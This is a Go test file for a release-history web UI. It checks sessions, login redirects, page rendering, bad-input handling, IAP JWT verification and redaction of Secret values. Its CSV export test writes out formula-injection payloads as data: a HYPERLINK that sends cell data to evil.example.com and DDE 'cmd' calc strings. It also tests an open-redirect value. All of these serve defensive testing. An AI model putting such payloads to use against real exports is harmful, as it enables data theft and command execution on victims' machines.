package ui_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"

	"github.com/bucketops/bucketops/render"
	"github.com/bucketops/bucketops/render/sopstest"
	"github.com/bucketops/bucketops/store"
	"github.com/bucketops/bucketops/store/storetest"
	"github.com/bucketops/bucketops/ui"
	"github.com/bucketops/bucketops/webhook"
)

const (
	token          = "reader-token-0123456789abcdef"
	secretPassword = "correct-horse-battery-staple"
)

// site is the pages over a bucket with a history: prod/payments with a
// SOPS Secret whose plaintext is secretPassword, a ConfigMap changing over
// 120 releases of prod/api, and a retired dev/old.
type site struct {
	url      string
	store    *store.Store
	payments []store.Result
	api      []store.Result
}

func newSite(t testing.TB) *site {
	t.Helper()
	tb := storetest.New(t, true)
	st := tb.Store(t, "")
	keys := sopstest.NewAgeKeys(t, 1)
	s := &site{store: st}
	publish := func(app, stream string, seq int, author, msg string) store.Result {
		rel, err := render.AssembleStream("release.yaml", strings.NewReader(stream))
		if err != nil {
			t.Fatal(err)
		}
		res, err := st.Publish(context.Background(), app, store.Publication{Data: rel.Bytes, Resources: rel.Resources(),
			Sequence: uint64(seq), Author: author, Message: msg, Source: fmt.Sprintf("https://ci.example.com/payments/%d", seq)})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	secret := func(pw string) string {
		return string(sopstest.EncryptSecret(t, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  namespace: pay\nstringData:\n  password: "+pw+"\n", keys[0].Recipient().String()))
	}
	cm := func(name, v string) string {
		return fmt.Sprintf("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: %s\n  namespace: pay\ndata:\n  mode: %q\n", name, v)
	}
	s.payments = append(s.payments, publish("prod/payments", cm("settings", "one")+"---\n"+secret(secretPassword), 1, "alice@example.com", "first"))
	time.Sleep(20 * time.Millisecond)
	s.payments = append(s.payments, publish("prod/payments", cm("settings", "two")+"---\n"+secret(secretPassword+"-rotated")+"---\n"+cm("extra", "x"), 2, "bob@example.com", "second"))
	for i := 1; i <= 120; i++ {
		s.api = append(s.api, publish("prod/api", cm("api", fmt.Sprint(i)), i, "ci-bot", fmt.Sprintf("build %d", i)))
	}
	publish("dev/old", cm("old", "x"), 1, "carol", "")
	if _, err := st.Retire(context.Background(), "dev/old", store.Publication{Author: "carol", Message: "gone"}); err != nil {
		t.Fatal(err)
	}
	u, err := ui.New(ui.Config{
		Releases: st, Location: st.Location(), Logger: slog.New(slog.DiscardHandler),
		Authenticate:  func(tok string) bool { return tok == token },
		SessionSecret: []byte(strings.Repeat("k", 32)),
	})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(u.Handler())
	t.Cleanup(srv.Close)
	s.url = srv.URL
	return s
}

// client is an HTTP client that keeps cookies and doesn't follow
// redirects, so the tests see them.
func client(t testing.TB) *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

type answer struct {
	status int
	header http.Header
	body   string
}

func get(t testing.TB, c *http.Client, u string) answer {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return answer{resp.StatusCode, resp.Header, string(b)}
}

func (s *site) login(t testing.TB, c *http.Client) {
	t.Helper()
	resp, err := c.PostForm(s.url+"/ui/login", url.Values{"token": {token}, "next": {"/ui/apps"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ui/apps" {
		t.Fatalf("login: %d to %q", resp.StatusCode, resp.Header.Get("Location"))
	}
}

func TestEveryPageNeedsASession(t *testing.T) {
	s := newSite(t)
	routes := []string{"/ui/", "/ui/apps", "/ui/apps/prod/payments/-/releases", fmt.Sprintf("/ui/apps/prod/payments/-/releases/%d", s.payments[0].Generation),
		"/ui/apps/prod/payments/-/diff?from=1&to=2", "/ui/asof?t=2026-01-01", "/ui/activity", "/ui/activity?format=csv", "/ui/activity?format=json"}
	anon := client(t)
	for _, r := range routes {
		a := get(t, anon, s.url+r)
		if a.status != http.StatusSeeOther || !strings.HasPrefix(a.header.Get("Location"), "/ui/login?next=") {
			t.Errorf("%s without a session: %d to %q, want a redirect to the login form", r, a.status, a.header.Get("Location"))
		}
	}
	// A tampered cookie, or a forged one, is refused and forgotten.
	c := client(t)
	s.login(t, c)
	u, _ := url.Parse(s.url + "/ui/")
	cookies := c.Jar.Cookies(u)
	if len(cookies) != 1 {
		t.Fatalf("cookies after login: %v", cookies)
	}
	value := cookies[0].Value
	for name, forged := range map[string]string{
		"tampered": value[:len(value)-4] + "AAAA",
		"made up":  "eyJ3aG8iOiJhZG1pbiJ9",
		"empty":    "",
	} {
		jar, _ := cookiejar.New(nil)
		jar.SetCookies(u, []*http.Cookie{{Name: "bucketops_session", Value: forged, Path: "/ui/"}})
		tc := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		for _, r := range routes {
			if a := get(t, tc, s.url+r); a.status != http.StatusSeeOther {
				t.Errorf("%s with a %s cookie: %d, want a redirect to the login form", r, name, a.status)
			}
		}
	}
	if a := get(t, c, s.url+"/ui/apps"); a.status != http.StatusOK {
		t.Errorf("with the real session: %d", a.status)
	}
}

func TestLogin(t *testing.T) {
	s := newSite(t)
	c := client(t)
	resp, err := c.PostForm(s.url+"/ui/login", url.Values{"token": {"not-the-token-0123456789"}})
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized || !strings.Contains(string(body), "a reader or auditor token of this bridge") {
		t.Errorf("a wrong token: %d %s", resp.StatusCode, body)
	}
	// The session cookie: HttpOnly, SameSite=Strict, scoped to /ui/, and
	// Secure when the browser came over TLS (through a proxy here).
	for _, tls := range []bool{false, true} {
		req, _ := http.NewRequest(http.MethodPost, s.url+"/ui/login", strings.NewReader(url.Values{"token": {token}, "next": {"//evil.example.com/"}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if tls {
			req.Header.Set("X-Forwarded-Proto", "https")
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		set := resp.Header.Get("Set-Cookie")
		for _, want := range []string{"HttpOnly", "SameSite=Strict", "Path=/ui/", "Max-Age="} {
			if !strings.Contains(set, want) {
				t.Errorf("Set-Cookie %q lacks %s", set, want)
			}
		}
		if strings.Contains(set, "Secure") != tls {
			t.Errorf("over TLS %v: Set-Cookie %q", tls, set)
		}
		if strings.Contains(set, token) {
			t.Error("the cookie holds the token")
		}
		if loc := resp.Header.Get("Location"); loc != "/ui/apps" {
			t.Errorf("a next= off the UI: redirected to %q, want /ui/apps", loc)
		}
	}
	// Logging out ends the session.
	resp, err = c.Post(s.url+"/ui/logout", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if a := get(t, c, s.url+"/ui/apps"); a.status != http.StatusSeeOther {
		t.Errorf("after logout: %d", a.status)
	}
}

func TestPages(t *testing.T) {
	s := newSite(t)
	c := client(t)
	s.login(t, c)
	p1, p2 := s.payments[0].Generation, s.payments[1].Generation
	for _, tc := range []struct {
		name, path string
		status     int
		want       []string
	}{
		{"apps as a tree", "/ui/apps", 200, []string{"<h2>prod/</h2>", "<h2>dev/</h2>", ">payments</a>", ">api</a>", "tombstone", "bucketops ls"}},
		{"apps filtered by prefix", "/ui/apps?prefix=dev", 200, []string{"1 apps.", ">old</a>"}},
		{"apps filtered by text", "/ui/apps?q=bob", 200, []string{"1 apps.", ">payments</a>"}},
		{"a timeline", "/ui/apps/prod/payments/-/releases", 200, []string{fmt.Sprint(p1), fmt.Sprint(p2), "alice@example.com", "second", "compare with previous",
			fmt.Sprintf("from=%d&amp;to=%d", p1, p2), `href="https://ci.example.com/payments/2"`, "bucketops log prod/payments"}},
		{"a timeline's last page", "/ui/apps/prod/api/-/releases?page=3", 200, []string{"page 3 of 3", "build 20", "← newer"}},
		{"a release", fmt.Sprintf("/ui/apps/prod/payments/-/releases/%d", p1), 200, []string{"ConfigMap pay/settings", "Secret pay/db", "&lt;redacted sha256:", "alice@example.com", "bucketops show prod/payments@"}},
		{"a retirement", "/ui/apps/dev/old/-/releases", 200, []string{"tombstone", "gone"}},
		{"a diff", fmt.Sprintf("/ui/apps/prod/payments/-/diff?from=%d&to=%d", p1, p2), 200, []string{"1 added, 0 removed, 2 changed, 0 unchanged", "added ConfigMap pay/extra", "changed Secret pay/db", "bucketops diff prod/payments@"}},
		{"as of a time", "/ui/asof?t=" + url.QueryEscape(s.payments[0].Time.Add(time.Millisecond).Format(time.RFC3339Nano)), 200, []string{fmt.Sprint(p1), "not published yet"}},
		{"activity", "/ui/activity?author=alice", 200, []string{"prod/payments", fmt.Sprint(p1), "first"}},
		{"a permalink on every page", "/ui/apps?prefix=prod", 200, []string{`id="permalink" href="/ui/apps?prefix=prod"`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := get(t, c, s.url+tc.path)
			if a.status != tc.status {
				t.Fatalf("%d:\n%s", a.status, a.body)
			}
			for _, w := range tc.want {
				if !strings.Contains(a.body, w) {
					t.Errorf("the page lacks %q", w)
				}
			}
			if strings.Contains(a.body, secretPassword) {
				t.Error("the page shows the Secret's plaintext")
			}
			for h, want := range map[string]string{"Content-Security-Policy": "default-src 'none'", "X-Frame-Options": "DENY", "Cache-Control": "no-store"} {
				if !strings.Contains(a.header.Get(h), want) {
					t.Errorf("%s: %q", h, a.header.Get(h))
				}
			}
		})
	}
	t.Run("the timeline pages through 120 releases, newest first", func(t *testing.T) {
		seen := 0
		for p := 1; p <= 3; p++ {
			a := get(t, c, fmt.Sprintf("%s/ui/apps/prod/api/-/releases?page=%d", s.url, p))
			seen += strings.Count(a.body, `class="release"`)
			if p == 1 && !strings.Contains(a.body, fmt.Sprint(s.api[119].Generation)) {
				t.Error("page 1 lacks the newest release")
			}
		}
		if seen != 120 {
			t.Errorf("3 pages hold %d releases, want 120", seen)
		}
	})
	t.Run("as of each release's time, that release", func(t *testing.T) {
		for _, i := range []int{0, 59, 119} {
			at := s.api[i].Time.Add(time.Microsecond).Format(time.RFC3339Nano)
			a := get(t, c, s.url+"/ui/asof?prefix=prod/api&t="+url.QueryEscape(at))
			re := regexp.MustCompile(`class="asof-release" href="[^"]*/(\d+)"`)
			m := re.FindStringSubmatch(a.body)
			if m == nil || m[1] != fmt.Sprint(s.api[i].Generation) {
				t.Errorf("as of release %d's time: %v, want %d", i+1, m, s.api[i].Generation)
			}
		}
	})
	t.Run("exports", func(t *testing.T) {
		a := get(t, c, s.url+"/ui/activity?prefix=prod/payments&format=csv")
		rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
		if err != nil || len(rows) != 3 || rows[0][1] != "app" || rows[1][2] != fmt.Sprint(p2) || rows[2][5] != "alice@example.com" {
			t.Errorf("CSV (%v): %q", err, rows)
		}
		if !strings.Contains(a.header.Get("Content-Disposition"), ".csv") {
			t.Errorf("Content-Disposition %q", a.header.Get("Content-Disposition"))
		}
		a = get(t, c, s.url+"/ui/activity?format=json&author=ci-bot")
		var out struct {
			Releases []store.Release
		}
		if err := json.Unmarshal([]byte(a.body), &out); err != nil || len(out.Releases) != 120 {
			t.Errorf("JSON: %d releases, %v", len(out.Releases), err)
		}
	})
}

// Bad input is a clear 4xx page, never a 500.
func TestBadInput(t *testing.T) {
	s := newSite(t)
	c := client(t)
	s.login(t, c)
	for _, tc := range []struct {
		path    string
		status  int
		mention string
	}{
		{"/ui/apps/prod/none/-/releases", 404, "prod/none"},
		{"/ui/apps/Prod/Api/-/releases", 400, "invalid app"},
		{"/ui/apps/prod/%2e%2e/-/releases", 404, "pages are /ui/apps/APP"},
		{"/ui/apps/prod/payments/-/releases/12", 404, "prod/payments@12"},
		{fmt.Sprintf("/ui/apps/prod/payments/-/releases/%d", s.api[0].Generation), 404, "not found"},
		{"/ui/apps/prod/payments/-/releases/x", 400, "not a generation"},
		{"/ui/apps/prod/payments/-/releases/-3", 400, "not a generation"},
		{"/ui/apps/prod/api/-/releases?page=99999999999999999999", 404, "pages"},
		{"/ui/apps/prod/api/-/releases?page=0", 404, "pages"},
		{"/ui/apps/prod/api/-/releases?page=4", 404, "3 pages"},
		{"/ui/apps/prod/api/-/diff?from=1", 400, "to="},
		{"/ui/apps/prod/api/-/diff?from=1&to=2", 404, "prod/api@1"},
		{"/ui/apps/prod/api/-/nothing", 404, "no page"},
		{"/ui/asof?t=yesterday", 400, "not a time"},
		{"/ui/asof?t=2026-13-45", 400, "not a time"},
		{"/ui/asof?t=2026-01-01&prefix=../x", 400, "invalid app"},
		{"/ui/activity?from=2026-12-04&to=2026-12-01", 400, "not before"},
		{"/ui/activity?format=xml", 400, "csv or json"},
		{"/ui/activity?from=soon", 400, "not a time"},
		{"/ui/nothing", 404, "No such page"},
	} {
		a := get(t, c, s.url+tc.path)
		if a.status != tc.status || !strings.Contains(a.body, tc.mention) {
			t.Errorf("%s: %d, want %d mentioning %q:\n%s", tc.path, a.status, tc.status, tc.mention, pageText(a.body))
		}
		if strings.Contains(a.body, "goroutine ") || strings.Contains(a.body, "panic") {
			t.Errorf("%s: a stack trace", tc.path)
		}
	}
}

// pageText is a page's main part, for failure messages.
func pageText(body string) string {
	if i := strings.Index(body, "<main>"); i >= 0 {
		body = body[i:]
	}
	if len(body) > 600 {
		body = body[:600]
	}
	return body
}

// Behind Google Cloud IAP, its signed header is a session: checked as IAP
// signs it (ES256, its issuer, the backend's audience), so a request that
// didn't come through the proxy can't claim to have.
func TestIAPHeader(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	jwks, _ := json.Marshal(jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: &key.PublicKey, KeyID: "iap-1", Algorithm: "ES256", Use: "sig"}}})
	keysSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.Write(jwks) }))
	t.Cleanup(keysSrv.Close)
	const audience = "/projects/123/global/backendServices/456"
	sign := func(k *ecdsa.PrivateKey, claims map[string]any) string {
		signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.ES256, Key: k}, (&jose.SignerOptions{}).WithHeader("kid", "iap-1"))
		if err != nil {
			t.Fatal(err)
		}
		payload, _ := json.Marshal(claims)
		jws, err := signer.Sign(payload)
		if err != nil {
			t.Fatal(err)
		}
		s, _ := jws.CompactSerialize()
		return s
	}
	claims := func(aud string) map[string]any {
		return map[string]any{"iss": "https://cloud.google.com/iap", "aud": aud, "email": "auditor@example.com", "sub": "accounts.google.com:1",
			"iat": time.Now().Unix(), "exp": time.Now().Add(10 * time.Minute).Unix()}
	}
	tb := storetest.New(t, true)
	st := tb.Store(t, "")
	u, err := ui.New(ui.Config{Releases: st, Location: st.Location(), Logger: slog.New(slog.DiscardHandler),
		Authenticate: func(string) bool { return false }, SessionSecret: []byte(strings.Repeat("k", 32)),
		IAP: &ui.IAP{Audience: audience, Keys: webhook.NewKeySet(keysSrv.URL, time.Minute)}})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(u.Handler())
	t.Cleanup(srv.Close)
	other, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	for name, tc := range map[string]struct {
		header string
		status int
	}{
		"a header IAP signed":         {sign(key, claims(audience)), 200},
		"another backend's header":    {sign(key, claims("/projects/123/global/backendServices/789")), 303},
		"a header signed by another":  {sign(other, claims(audience)), 303},
		"a header that isn't a token": {"x.y.z", 303},
	} {
		req, _ := http.NewRequest(http.MethodGet, srv.URL+"/ui/apps", nil)
		req.Header.Set("X-Goog-IAP-JWT-Assertion", tc.header)
		resp, err := client(t).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.status {
			t.Errorf("%s: %d, want %d", name, resp.StatusCode, tc.status)
		}
		if tc.status == 200 && !strings.Contains(string(body), "auditor@example.com") {
			t.Errorf("%s: the page doesn't name the IAP user", name)
		}
	}
}

// A bucket writer chooses the author, source, origin and message of a
// release: in the CSV export, a cell that a spreadsheet would evaluate as a
// formula starts with a single quote, so it opens as the text it is; the
// JSON export keeps every value as written.
func TestActivityExportDefusesFormulas(t *testing.T) {
	tb := storetest.New(t, true)
	st := tb.Store(t, "")
	rel, err := render.AssembleStream("cm.yaml", strings.NewReader(sopstest.Settings))
	if err != nil {
		t.Fatal(err)
	}
	publications := []store.Publication{
		{Author: `=HYPERLINK("https://evil.example.com/?d="&A1,"details")`, Source: "+cmd|' /C calc'!A0", Origin: "@SUM(1+1)*cmd|' /C calc'!A0", Message: "-2+3+cmd|' /C calc'!A0"},
		{Author: "\t=1+1", Source: "https://ci.example.com/1", Message: "\r=1+1"},
		{Author: "alice@example.com", Source: "3f2a9c1", Message: "fix a-b = c"},
	}
	for i, p := range publications {
		p.Data, p.Resources, p.Sequence = rel.Bytes, rel.Resources(), uint64(i+1)
		if i > 0 {
			// Another sequence alone would leave the head unchanged.
			p.Data = []byte(strings.Replace(string(rel.Bytes), "mode: live", fmt.Sprintf("mode: live-%d", i), 1))
		}
		if _, err := st.Publish(t.Context(), "prod/evil", p); err != nil {
			t.Fatal(err)
		}
	}
	s, c := servePages(t, st)
	a := get(t, c, s.url+"/ui/activity?prefix=prod/evil&format=csv")
	rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
	if err != nil || len(rows) != len(publications)+1 {
		t.Fatalf("CSV (%v): %q", err, rows)
	}
	formula := func(cell string) bool { return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") }
	for _, row := range rows[1:] {
		seq, _ := strconv.Atoi(row[4])
		if seq < 1 || seq > len(publications) {
			t.Fatalf("a row of sequence %q: %q", row[4], row)
		}
		p := publications[seq-1]
		for col, want := range map[int]string{5: p.Author, 6: p.Source, 7: p.Origin, 9: p.Message} {
			if formula(want) {
				want = "'" + want
			}
			if row[col] != want {
				t.Errorf("release %d, %s: %q, want %q", seq, rows[0][col], row[col], want)
			}
		}
		for col, cell := range row {
			if formula(cell) {
				t.Errorf("release %d, %s: %q would be a formula in a spreadsheet", seq, rows[0][col], cell)
			}
		}
	}

	a = get(t, c, s.url+"/ui/activity?prefix=prod/evil&format=json")
	var out struct {
		Releases []store.Release
	}
	if err := json.Unmarshal([]byte(a.body), &out); err != nil || len(out.Releases) != len(publications) {
		t.Fatalf("JSON: %d releases, %v", len(out.Releases), err)
	}
	for _, r := range out.Releases {
		p := publications[r.Sequence-1]
		if r.Author != p.Author || r.Source != p.Source || r.Origin != p.Origin || r.Message != p.Message {
			t.Errorf("JSON release %d: %q %q %q %q, want the values as published", r.Sequence, r.Author, r.Source, r.Origin, r.Message)
		}
	}
}

// servePages serves the pages over st and returns them with a client logged in.
func servePages(t *testing.T, st *store.Store) (*site, *http.Client) {
	t.Helper()
	u, err := ui.New(ui.Config{Releases: st, Location: st.Location(), Logger: slog.New(slog.DiscardHandler),
		Authenticate: func(tok string) bool { return tok == token }, SessionSecret: []byte(strings.Repeat("k", 32))})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(u.Handler())
	t.Cleanup(srv.Close)
	s := &site{url: srv.URL, store: st}
	c := client(t)
	s.login(t, c)
	return s, c
}

// The release and diff pages redact a plaintext Secret's values merged
// into its stringData with <<, and the values a partly encrypted SOPS
// Secret keeps in the clear (issue 24, item 6).
func TestPagesRedactMergedAndClearSecretValues(t *testing.T) {
	tb := storetest.New(t, true)
	st := tb.Store(t, "")
	keys := sopstest.NewAgeKeys(t, 1)
	var gens []int64
	for i, v := range []string{"first", "second"} {
		merged := "apiVersion: v1\nkind: Secret\nmetadata:\n  name: merged\n  namespace: pay\nstringData:\n  <<: {password: merged-" + v + "-s3cret}\n  user: admin\n"
		// sops encrypt --encrypted-regex '^password$': username stays in clear.
		partly, _ := sopstest.Encrypt(t, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: partly\n  namespace: pay\nstringData:\n  username: clear-"+v+"-s3cret\n  password: enc-"+v+"-s3cret\n", "^password$", keys[0].Recipient().String())
		rel, err := render.AssembleStream("secrets.yaml", strings.NewReader(merged+"---\n"+string(partly)))
		if err != nil {
			t.Fatal(err)
		}
		res, err := st.Publish(t.Context(), "prod/secrets", store.Publication{Data: rel.Bytes, Resources: rel.Resources(), Sequence: uint64(i + 1)})
		if err != nil {
			t.Fatal(err)
		}
		gens = append(gens, res.Generation)
	}
	s, c := servePages(t, st)
	for _, tc := range []struct{ name, path string }{
		{"the release page", fmt.Sprintf("/ui/apps/prod/secrets/-/releases/%d", gens[0])},
		{"the diff page", fmt.Sprintf("/ui/apps/prod/secrets/-/diff?from=%d&to=%d", gens[0], gens[1])},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := get(t, c, s.url+tc.path)
			if a.status != http.StatusOK {
				t.Fatalf("%d:\n%s", a.status, pageText(a.body))
			}
			if i := strings.Index(a.body, "s3cret"); i >= 0 {
				t.Errorf("the page shows a Secret value:\n%s", a.body[max(0, i-200):min(len(a.body), i+100)])
			}
			for _, want := range []string{"Secret pay/merged", "Secret pay/partly", "&lt;redacted hmac:", "&lt;redacted sha256:"} {
				if !strings.Contains(a.body, want) {
					t.Errorf("the page lacks %q", want)
				}
			}
		})
	}
}
